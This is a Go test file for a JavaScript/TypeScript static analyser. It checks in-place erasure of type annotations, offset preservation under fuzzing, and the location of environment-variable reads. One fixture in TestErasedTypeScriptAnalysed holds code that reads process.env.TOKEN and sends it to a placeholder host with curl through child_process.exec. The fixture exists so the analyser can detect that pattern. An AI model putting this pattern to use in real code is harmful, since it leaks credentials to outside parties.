package jsast

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestEraseTypes(t *testing.T) {
	for _, c := range []struct {
		name, in, want string // want "" when esbuild must take the file
	}{
		{"declarators",
			"let x: number = 1, y!: string;\nconst { a, b: c }: Props = p;",
			"let x         = 1, y         ;\nconst { a, b: c }        = p;"},
		{"function_signature",
			"function f<T extends object = {}>(a: T, b?: string, ...r: any[]): Promise<T> { return a as any as T; }",
			"function f                       (a   , b         , ...r       )             { return a            ; }"},
		{"this_parameter_assertion_overload_non_null",
			"export function g(this: Window, x: number): asserts x is number {}\nfunction h(a: string): void;\nfunction h(a: any) { return a!.b!; }",
			"export function g(              x        )                      {}\n                            \nfunction h(a     ) { return a .b ; }"},
		{"declarations_of_types_only",
			"interface A extends B<C> {\n  x: number;\n}\ntype U<T> = T extends string ? 'a' : 'b';\nexport type { A };\nexport interface E {}",
			"                          \n            \n \n                                         \n                  \n                     "},
		{"type_imports",
			"import type { A } from './a';\nimport { b, type C } from './b';\nimport { type D } from './d';\nimport T from './t';\nimport * as ns from 'ns';\nlet v: T = b(ns.x);",
			"                             \nimport { b,        } from './b';\n                             \n                    \nimport * as ns from 'ns';\nlet v    = b(ns.x);"},
		{"imports_only_types_use",
			"import { Unused } from './u';\nimport { Used, Gone } from './w';\nlet q: Unused = Used; let r: Gone; let o = { Gone: 1 };",
			"                             \nimport { Used,      } from './w';\nlet q         = Used; let r      ; let o = { Gone: 1 };"},
		{"type_arguments_and_comparisons",
			"const m = new Map<string, Array<number>>();\nconst z = a < b && c > d;\nf<T>(x); g<A<B>>(y);",
			"const m = new Map                       ();\nconst z = a < b && c > d;\nf   (x); g      (y);"},
		{"class_members",
			"abstract class K<T> extends Base<T> implements I, J<T> {\n  private readonly x: number = 1;\n  static y?: string;\n  declare z: number;\n  [k: string]: any;\n  constructor(private p: string, public q = 2) { super(); }\n  abstract m(): void;\n  n(a: T): T;\n  n(a: any) { return a; }\n  get v(): number { return 1 }\n  #w!: string\n}",
			"         class K    extends Base                       {\n                   x         = 1;\n  static y         ;\n                    \n                   \n  constructor(        p        ,        q = 2) { super(); }\n                     \n             \n  n(a     ) { return a; }\n  get v()         { return 1 }\n  #w         \n}"},
		{"arrow_functions",
			"const h = async (a: number, b: { c: string }): Promise<void> => {};\nconst g = <T,>(x: T): T => x;\nconst k = cond ? (x: number): number => x : null;\nconst l = cond ? (x) : y => z;",
			"const h = async (a        , b               )                => {};\nconst g =     (x   )    => x;\nconst k = cond ? (x        )         => x : null;\nconst l = cond ? (x) : y => z;"},
		{"declare",
			"declare module 'x' {\n  export const a: number;\n}\ndeclare const y: string;\ndeclare function z<T>(a: T): void\nlet after = 1;",
			"                    \n                         \n \n                        \n                                 \nlet after = 1;"},
		{"object_methods_satisfies_angle_bracket_cast",
			"const o = { a: 1, m<T>(x: T): T { return x; }, get g(): number { return 1 } };\nconst s = x satisfies Y;\nlet u = <any>window;",
			"const o = { a: 1, m   (x   )    { return x; }, get g()         { return 1 } };\nconst s = x            ;\nlet u =      window;"},
		{"loops_and_catch",
			"for (const [k, v] of Object.entries(o)) {}\nfor (let i: number = 0; i < n; i++) {}\ntry {} catch (e: unknown) {}",
			"for (const [k, v] of Object.entries(o)) {}\nfor (let i         = 0; i < n; i++) {}\ntry {} catch (e         ) {}"},
		{"hashbang",
			"#!/usr/bin/env node\nlet a: string = 'x';",
			"#!/usr/bin/env node\nlet a         = 'x';"},
		{"templates_regular_expressions_division",
			"let t = `a${b as string}c${d!}`;\nlet r = /re/g.test(x as string);\nlet dv = a / b / c;",
			"let t = `a${b          }c${d }`;\nlet r = /re/g.test(x          );\nlet dv = a / b / c;"},
		{"function_types",
			"type Fn = (a: string) => void;\nlet p: (() => number[]) | null = null;\nconst mk = (k: string): (() => number[]) => () => [];",
			"                              \nlet p                          = null;\nconst mk = (k        )                   => () => [];"},
		{"bounds_closed_by_shifts",
			"function f<V extends Record<string, Array<number>>>(v: V) {}\nlet s = a >> b, u = c >>> d;",
			"function f                                         (v   ) {}\nlet s = a >> b, u = c >>> d;"},
		{"enum", "enum E { A }", ""},
		{"const_enum", "const enum E { A }", ""},
		{"namespace", "namespace N { export const a = 1 }", ""},
		{"import_require", "import fs = require('fs');", ""},
		{"decorator", "@dec class A {}", ""},
		{"export_assignment", "export = f;", ""},
		{"not_typescript_at_all", "let a = ;", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			out, ok := eraseTypes([]byte(c.in))
			if ok != (c.want != "") {
				t.Fatalf("ok = %v, out %q", ok, out)
			}
			if diff := cmp.Diff(c.want, string(out)); ok && diff != "" {
				t.Errorf("erased (-want +got):\n%s", diff)
			}
		})
	}
}

func TestErasedTypeScriptAnalysed(t *testing.T) {
	// positions are the file's own, and what esbuild must transform still
	// goes to it
	src := "import { exec } from 'child_process';\nimport type { Opts } from './o';\ninterface A { x: number }\nconst y: string = process.env.TOKEN as string;\nexec(`curl -d ${y} https://x.invalid`);\n"
	for _, tail := range []string{"", "enum Level { Low, High }\n"} {
		f := analyzedAs(t, "a.ts", src+tail, ModeTransformed)
		c := hasCall(f, "child_process.exec")
		if c == nil || c.Pos.Line != 5 {
			t.Fatalf("%q: exec = %+v", tail, c)
		}
		// erased in place, the offset is the file's; esbuild's output
		// is shorter
		if erased := c.Pos.Off == strings.Index(src, "exec(`"); erased != (tail == "") {
			t.Errorf("%q: offset %d, erased in place %v", tail, c.Pos.Off, erased)
		}
		if hasImport(f, "./o") {
			t.Errorf("%q: a type-only import is recorded", tail)
		}
	}
}

func FuzzEraseTypes(f *testing.F) {
	f.Add([]byte("let x: number = 1; function f<T>(a?: T): T[] { return a as any }"))
	f.Add([]byte("class A<T> extends B<C<D>> implements E { private x!: Map<string, number>; m(): void; }"))
	f.Add([]byte("const g = c ? (x: number): number => x : (y) => y; f<A<B>>(1); a < b > (c)"))
	f.Add([]byte("import { type A, b } from 'x'\nexport type { A }\ndeclare module 'm' {}\ntype T = `a${string}`"))
	f.Fuzz(func(t *testing.T, b []byte) {
		out, _, ok := eraseTypesAt(b)
		if !ok {
			return
		}
		// offsets never move: every byte is kept or blanked, line breaks
		// are kept
		if len(out) != len(b) {
			t.Fatalf("length %d, want %d", len(out), len(b))
		}
		for i := range b {
			if out[i] != b[i] && (out[i] != ' ' || strings.IndexByte("\r\n", b[i]) >= 0) {
				t.Fatalf("byte %d: %q became %q", i, b[i], out[i])
			}
		}
	})
}

func TestEnvIndexPosition(t *testing.T) {
	// a key read by index is placed where the key is written, not at the
	// last literal before it (here, none: the top of the file)
	for _, name := range []string{"a.js", "a.ts"} {
		f := Analyze(name, []byte("// reads a token\n\nconst key = process.env[\"API_TOKEN\"];\n"), DefaultLimits())
		if len(f.Env) != 1 || f.Env[0].Pos.Line != 3 {
			t.Errorf("%s: env reads %+v", name, f.Env)
		}
	}
}
